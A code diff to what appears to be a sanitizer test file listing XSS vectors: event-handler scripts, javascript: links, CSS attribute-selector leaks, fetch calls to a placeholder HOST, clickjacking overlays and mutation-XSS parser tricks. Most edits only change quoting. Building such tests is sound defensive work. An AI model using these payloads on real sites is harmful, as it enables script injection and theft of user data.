@@ -55,7 +55,7 @@ VECTORS: Final[dict[str, str]] = {
     "style-font-face": "<style>@font-face{font-family:z;src:url(https://HOST/f.woff)}p{font-family:z}</style><p>text</p>",
     "style-variable": "<style>:root{--u:url(https://HOST/v.png)}</style><p style='background:var(--u)'>x</p>",
     "style-attribute-leak": "<style>input[value^=a]{background:url(https://HOST/l)}</style><input value=abc>",
-    "style-newline-url": '<div style="background:url(\n\'https://HOST/n.png\'\n)">x</div>',
+    "style-newline-url": "<div style=\"background:url(\n'https://HOST/n.png'\n)\">x</div>",
     "style-mask": '<p style="-webkit-mask-image:url(https://HOST/m.svg)">x</p>',
     "style-cover": f'<a href="https://HOST/" style="position:fixed;inset:0;z-index:9" onclick="{_PWN}">cover</a>',
     # Scripts.
@@ -66,8 +66,8 @@ VECTORS: Final[dict[str, str]] = {
     "onerror-slash": f"<img/src=x/onerror={_PWN};new/**/Image().src='https://HOST/'>",
     "onload-body": f"<body onload=\"{_PWN};fetch('https://HOST/')\">",
     "onload-svg": f"<svg onload=\"{_PWN};fetch('https://HOST/')\">",
-    "ontoggle": f'<details open ontoggle="{_PWN};fetch(\'https://HOST/\')">x</details>',
-    "onfocus": f'<input autofocus onfocus="{_PWN};fetch(\'https://HOST/\')">',
+    "ontoggle": f"<details open ontoggle=\"{_PWN};fetch('https://HOST/')\">x</details>",
+    "onfocus": f"<input autofocus onfocus=\"{_PWN};fetch('https://HOST/')\">",
     "onanimation": f'<style>@keyframes a{{}}</style><p style="animation:a 1s" onanimationstart="{_PWN}">x</p>',
     "javascript-link": f'<a href="javascript:{_PWN}" target="_self">HOST</a>',
     "javascript-entities": f'<a href="java&#10;script&colon;{_PWN}">x</a>',
@@ -84,7 +84,7 @@ VECTORS: Final[dict[str, str]] = {
     "ping": '<a href="https://example.org/" ping="https://HOST/ping">x</a>',
     "target-top": '<a href="https://HOST/" target="_top">x</a>',
     # Mutations: what one parser closes and the next one opens.
-    "mutation-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_PWN}&gt;">',
+    "mutation-math": f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_PWN}&gt;">',
     "mutation-svg-style": f"<svg></p><style><a id=\"</style><img src='https://HOST/m' onerror={_PWN}>\">",
     "mutation-noscript": f"<noscript><p title=\"</noscript><img src='https://HOST/n' onerror={_PWN}>\">",
     "mutation-form": f"<form><math><mtext></form><form><mglyph><style></math><img src='https://HOST/f' onerror={_PWN}>",
